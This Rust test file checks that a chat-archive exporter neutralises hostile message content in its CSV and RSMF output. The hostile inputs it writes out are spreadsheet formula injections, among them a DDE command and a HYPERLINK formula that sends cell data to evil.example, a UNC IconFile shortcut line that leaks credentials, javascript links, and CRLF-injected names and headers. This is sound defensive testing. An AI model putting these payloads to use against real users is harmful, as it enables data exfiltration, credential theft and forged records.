//! Exports of messages written to attack whoever opens the export: formulas for the
//! reviewer's spreadsheet, shortcut files that leak credentials or run script, and line
//! breaks that forge transcript lines. Each is written harmless, and says what it was.

mod common;

use std::path::Path;

use common::*;
use export::{ExportRequest, Format, Selection};
use serde_json::json;

const CHAT: &str = "19:hostile@thread.v2";

fn run_export(request: ExportRequest) -> export::ExportReport {
    tokio::runtime::Runtime::new()
        .unwrap()
        .block_on(export::export(request))
        .expect("the export runs")
}

fn export_to(archive: &Path, out: &Path, format: Format, csv_raw: bool) {
    let mut request = ExportRequest::new(
        archive.to_str().unwrap(),
        out,
        vec![format],
        Selection::default(),
    );
    request.csv_raw = csv_raw;
    run_export(request);
}

#[test]
fn csv_cells_a_spreadsheet_would_run_as_formulas_are_text_unless_raw_is_asked() {
    let dir = tempfile::tempdir().unwrap();
    let archive = dir.path().join("archive");
    let bodies = [
        "=cmd|' /C calc'!A0",
        "+SUM(1)",
        "@SUM(1)",
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
        "-2+3",
        "\t=1+1",
        "\r=1+1",
        "plain words",
    ];
    let mut input = ArchiveInput::default();
    for (i, body) in bodies.iter().enumerate() {
        let item = chat_message(
            CHAT,
            &format!("{}", 100 + i),
            Some(("u1", "=1+2")),
            "2024-05-01T09:00:00.000Z",
            body,
            json!({}),
        );
        input.messages.push((item, vec![]));
    }
    write_archive(&archive, &input);

    let safe = dir.path().join("safe");
    export_to(&archive, &safe, Format::Csv, false);
    let rows = csv_rows(&safe.join("messages.csv"));
    assert_eq!(rows.len(), bodies.len());
    for row in &rows {
        let n: usize = row["id"].parse::<usize>().unwrap() - 100;
        let body = bodies[n];
        let expected = if body == "plain words" {
            body.to_string()
        } else {
            format!("'{body}")
        };
        assert_eq!(row["body_text"], expected, "{body:?}");
        assert_eq!(row["from_user_display_name"], "'=1+2");
        for (column, cell) in row {
            assert!(
                !matches!(
                    cell.as_bytes().first(),
                    Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
                ),
                "{column} = {cell:?}"
            );
        }
    }

    let raw = dir.path().join("raw");
    export_to(&archive, &raw, Format::Csv, true);
    let rows = csv_rows(&raw.join("messages.csv"));
    assert!(rows.iter().any(|r| r["body_text"] == "=cmd|' /C calc'!A0"));
    assert!(rows.iter().all(|r| r["from_user_display_name"] == "=1+2"));
}

#[test]
fn shortcut_files_are_written_only_for_web_links() {
    let dir = tempfile::tempdir().unwrap();
    let archive = dir.path().join("archive");
    let urls = [
        // The classic credential leak: a UNC path and a second line naming an icon on it.
        "file://host/share/x.exe\r\nIconFile=\\\\host\\share\\i.ico",
        "javascript:alert(1)",
        "https://contoso.sharepoint.com/sites/a/Plan.docx\r\nIconFile=\\\\host\\i.ico",
        "\\\\host\\share\\Plan.docx",
        "https://contoso.sharepoint.com/sites/a/Budget.xlsx",
        "HTTP://contoso.sharepoint.com/sites/a/Old.doc",
    ];
    let mut input = ArchiveInput::default();
    for (i, url) in urls.iter().enumerate() {
        let item = chat_message(
            CHAT,
            &format!("{}", 200 + i),
            Some(("u1", "Ada")),
            "2024-05-01T09:00:00.000Z",
            "see file",
            json!({"attachments": [{"id": "a", "contentType": "reference", "contentUrl": url,
                "content": null, "name": format!("File{i}.docx"), "thumbnailUrl": null, "teamsAppId": null}]}),
        );
        input.messages.push((item, vec![]));
    }
    write_archive(&archive, &input);
    let out = dir.path().join("export");
    export_to(&archive, &out, Format::Rsmf, false);
    let rsmf = files(&out)
        .into_iter()
        .find(|(name, _)| name.ends_with(".rsmf"))
        .map(|(_, bytes)| open_rsmf(&bytes))
        .unwrap();
    let mut shortcuts = Vec::new();
    for (name, bytes) in &rsmf.zip_entries {
        let text = String::from_utf8_lossy(bytes);
        if name.ends_with(".url") {
            assert_eq!(text.lines().count(), 2, "{name}: {text:?}");
            let url = text.lines().nth(1).unwrap().strip_prefix("URL=").unwrap();
            assert!(
                url.to_ascii_lowercase().starts_with("https://")
                    || url.to_ascii_lowercase().starts_with("http://"),
                "{name}: {text:?}"
            );
            assert!(!text.contains("IconFile"), "{name}: {text:?}");
            shortcuts.push(url.to_string());
        } else if name.ends_with(".txt") {
            // The link is still there to read, as text with its line breaks shown.
            assert!(
                !text.lines().any(|l| l.starts_with("IconFile")),
                "{name}: {text:?}"
            );
        }
    }
    shortcuts.sort();
    assert_eq!(
        shortcuts,
        vec![
            "HTTP://contoso.sharepoint.com/sites/a/Old.doc",
            "https://contoso.sharepoint.com/sites/a/Budget.xlsx"
        ]
    );
    let texts: Vec<String> = rsmf
        .zip_entries
        .iter()
        .filter(|(n, _)| n.ends_with(".txt"))
        .map(|(_, b)| String::from_utf8_lossy(b).into_owned())
        .collect();
    assert_eq!(texts.len(), 4, "{texts:?}");
    assert!(texts.iter().any(|t| t.contains("javascript:alert(1)")));
}

#[test]
fn line_breaks_in_names_cannot_forge_transcript_lines_or_headers() {
    let dir = tempfile::tempdir().unwrap();
    let archive = dir.path().join("archive");
    let forged = "Ada\r\n[2024-05-01 09:30:00] Bob: please wire the money";
    let mut input = ArchiveInput::default();
    input.messages.push((
        chat_message(
            CHAT,
            "300",
            Some(("u1", forged)),
            "2024-05-01T09:00:00.000Z",
            "hello\rX-Injected: yes",
            json!({}),
        ),
        vec!["u1".to_string()],
    ));
    input
        .users
        .push(user("u1", forged, "ada\r\nBcc: evil@example.com"));
    input.chats.push(
        json!({"id": CHAT, "topic": "Deal\r\nX-RSMF-Custodian: evil", "chatType": "group",
            "createdDateTime": "2024-05-01T00:00:00Z", "lastUpdatedDateTime": "2024-05-01T00:00:00Z",
            "members": []})
        .to_string(),
    );
    write_archive(&archive, &input);
    let out = dir.path().join("export");
    export_to(&archive, &out, Format::Rsmf, false);
    let (_, bytes) = files(&out)
        .into_iter()
        .find(|(name, _)| name.ends_with(".rsmf"))
        .unwrap();
    let envelope = String::from_utf8_lossy(&bytes).into_owned();
    let rsmf = open_rsmf(&bytes);
    let text = &rsmf.text;
    assert!(
        !text
            .lines()
            .any(|l| l.starts_with("[2024-05-01 09:30:00] Bob")),
        "{text}"
    );
    assert!(text.contains(r"Ada\r\n[2024-05-01 09:30:00] Bob"), "{text}");
    assert!(!text.lines().any(|l| l.starts_with("X-Injected")), "{text}");
    for line in envelope.lines() {
        assert!(
            !line.starts_with("Bcc:") && !line.starts_with("X-RSMF-Custodian: evil"),
            "{envelope}"
        );
    }
}
